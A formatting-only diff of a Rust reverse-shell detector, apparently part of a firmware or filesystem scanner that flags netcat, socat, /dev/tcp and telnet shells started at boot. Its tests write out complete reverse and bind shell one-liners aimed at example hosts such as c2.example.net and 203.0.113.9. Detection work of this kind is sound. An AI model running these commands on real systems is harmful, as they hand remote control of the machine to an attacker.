@@ -9,8 +9,7 @@
 //! boot or from cron: critical when it does, high otherwise.
 
 use crate::boot::{
-    boot_model, expand_vars, lines, program_of, shell_words, split_commands, strip_comment,
-    Trigger,
+    boot_model, expand_vars, lines, program_of, shell_words, split_commands, strip_comment, Trigger,
 };
 use crate::detectors::text::looks_like_text;
 use crate::{Analysis, Detector, Rule};
@@ -76,7 +75,11 @@ impl Detector for ReverseShell {
             // Cheap filter: every shape names one of these.
             let b = file.bytes;
             let any = |n: &[u8]| memchr::memmem::find(b, n).is_some();
-            if !(any(b"nc") || any(b"socat") || any(b"/dev/tcp") || any(b"/dev/udp") || any(b"telnet"))
+            if !(any(b"nc")
+                || any(b"socat")
+                || any(b"/dev/tcp")
+                || any(b"/dev/udp")
+                || any(b"telnet"))
             {
                 continue;
             }
@@ -128,7 +131,8 @@ fn scan_script(
                     if let Some((_, _, conf)) = a.read_nested(fs, path) {
                         if conf.len() <= MAX_SCRIPT {
                             for l in lines(conf) {
-                                if let Some((k, v)) = simple_assignment(strip_comment(l.text).trim())
+                                if let Some((k, v)) =
+                                    simple_assignment(strip_comment(l.text).trim())
                                 {
                                     vars.entry(k).or_insert(v);
                                 }
@@ -166,8 +170,10 @@ fn scan_script(
         if let Some(p) = &conn.port {
             f.context.insert("port".into(), p.clone());
         }
-        f.context
-            .insert("direction".into(), if conn.listens { "bind" } else { "reverse" }.into());
+        f.context.insert(
+            "direction".into(),
+            if conn.listens { "bind" } else { "reverse" }.into(),
+        );
         match runs {
             Some((trigger, by)) => {
                 f.severity = Severity::Critical;
@@ -175,7 +181,8 @@ fn scan_script(
                 f.context.insert("started_by".into(), by.clone());
             }
             None => {
-                f.context.insert("runs".into(), "not started by the boot model".into());
+                f.context
+                    .insert("runs".into(), "not started by the boot model".into());
             }
         }
         out.push(f);
@@ -196,11 +203,17 @@ fn simple_assignment(cmd: &str) -> Option<(String, String)> {
     if words.len() > 1 {
         return None;
     }
-    Some((name.to_string(), words.into_iter().next().unwrap_or_default()))
+    Some((
+        name.to_string(),
+        words.into_iter().next().unwrap_or_default(),
+    ))
 }
 
 fn is_shell(program: &str) -> bool {
-    matches!(program, "sh" | "ash" | "bash" | "dash" | "ksh" | "zsh" | "hush")
+    matches!(
+        program,
+        "sh" | "ash" | "bash" | "dash" | "ksh" | "zsh" | "hush"
+    )
 }
 
 fn is_shell_path(word: &str) -> bool {
@@ -215,10 +228,7 @@ pub fn shell_connection(line: &str) -> Option<ShellConnection> {
         .map(|(_, c)| shell_words(c))
         .collect();
     let programs: Vec<Option<(String, usize)>> = commands.iter().map(|w| program_of(w)).collect();
-    let runs_shell = programs
-        .iter()
-        .flatten()
-        .any(|(p, _)| is_shell(p.as_str()));
+    let runs_shell = programs.iter().flatten().any(|(p, _)| is_shell(p.as_str()));
     for (words, prog) in commands.iter().zip(&programs) {
         let Some((p, rest)) = prog else { continue };
         let args = words.get(*rest..).unwrap_or(&[]);
@@ -379,7 +389,9 @@ fn dev_tcp(line: &str, shell_or_exec: bool) -> Option<ShellConnection> {
     let at = line.find("/dev/tcp/").or_else(|| line.find("/dev/udp/"))?;
     let rest = line.get(at + 9..)?;
     let end = rest
-        .find(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\'' | ')' | '<' | '>'))
+        .find(|c: char| {
+            c.is_whitespace() || matches!(c, ';' | '&' | '|' | '"' | '\'' | ')' | '<' | '>')
+        })
         .unwrap_or(rest.len());
     let mut parts = rest[..end].splitn(2, '/');
     let host = parts.next().filter(|h| !h.is_empty()).map(str::to_string);
@@ -408,20 +420,38 @@ mod tests {
 
     #[test]
     fn every_shape_is_read_with_host_and_port() {
-        assert_eq!(conn("nc 198.51.100.7 4444 -e /bin/sh &"), Some((s("198.51.100.7"), s("4444"), false, "nc -e")));
-        assert_eq!(conn("busybox nc -e /bin/ash 198.51.100.7 4444"), Some((s("198.51.100.7"), s("4444"), false, "nc -e")));
-        assert_eq!(conn("nc -l -p 2323 -e /bin/sh"), Some((None, s("2323"), true, "nc -e")));
+        assert_eq!(
+            conn("nc 198.51.100.7 4444 -e /bin/sh &"),
+            Some((s("198.51.100.7"), s("4444"), false, "nc -e"))
+        );
+        assert_eq!(
+            conn("busybox nc -e /bin/ash 198.51.100.7 4444"),
+            Some((s("198.51.100.7"), s("4444"), false, "nc -e"))
+        );
+        assert_eq!(
+            conn("nc -l -p 2323 -e /bin/sh"),
+            Some((None, s("2323"), true, "nc -e"))
+        );
         assert_eq!(
             conn("rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc c2.example.net 443 >/tmp/f"),
             Some((s("c2.example.net"), s("443"), false, "pipeline"))
         );
-        assert_eq!(conn("sh -i >& /dev/tcp/203.0.113.9/8081 0>&1"), Some((s("203.0.113.9"), s("8081"), false, "/dev/tcp")));
-        assert_eq!(conn("exec 5<>/dev/tcp/203.0.113.9/53"), Some((s("203.0.113.9"), s("53"), false, "/dev/tcp")));
+        assert_eq!(
+            conn("sh -i >& /dev/tcp/203.0.113.9/8081 0>&1"),
+            Some((s("203.0.113.9"), s("8081"), false, "/dev/tcp"))
+        );
+        assert_eq!(
+            conn("exec 5<>/dev/tcp/203.0.113.9/53"),
+            Some((s("203.0.113.9"), s("53"), false, "/dev/tcp"))
+        );
         assert_eq!(
             conn("socat exec:'/bin/sh -li',pty,stderr tcp:203.0.113.9:9001"),
             Some((s("203.0.113.9"), s("9001"), false, "socat"))
         );
-        assert_eq!(conn("socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/sh"), Some((None, s("1337"), true, "socat")));
+        assert_eq!(
+            conn("socat TCP-LISTEN:1337,reuseaddr,fork EXEC:/bin/sh"),
+            Some((None, s("1337"), true, "socat"))
+        );
         assert_eq!(
             conn("telnet 203.0.113.9 4000 | /bin/sh | telnet 203.0.113.9 4001"),
             Some((s("203.0.113.9"), s("4000"), false, "pipeline"))
@@ -460,13 +490,22 @@ mod tests {
         let mut out = Vec::new();
         ReverseShell.run(&a, &mut out);
         assert_eq!(out.len(), 2, "{out:#?}");
-        let support = out.iter().find(|f| f.path == "/usr/sbin/support.sh").expect("support");
+        let support = out
+            .iter()
+            .find(|f| f.path == "/usr/sbin/support.sh")
+            .expect("support");
         assert_eq!(support.severity, Severity::Critical);
         assert_eq!(support.context["host"], "support.example.org");
         assert_eq!(support.context["port"], "7001");
         assert_eq!(support.context["started_by"], "/etc/init.d/rcS");
-        assert_eq!(support.evidence, "  nc $SUPPORT_HOST ${SUPPORT_PORT} -e $SH");
-        let diag = out.iter().find(|f| f.path == "/usr/bin/diag.sh").expect("diag");
+        assert_eq!(
+            support.evidence,
+            "  nc $SUPPORT_HOST ${SUPPORT_PORT} -e $SH"
+        );
+        let diag = out
+            .iter()
+            .find(|f| f.path == "/usr/bin/diag.sh")
+            .expect("diag");
         assert_eq!(diag.severity, Severity::High);
         assert_eq!(diag.context["direction"], "reverse");
     }
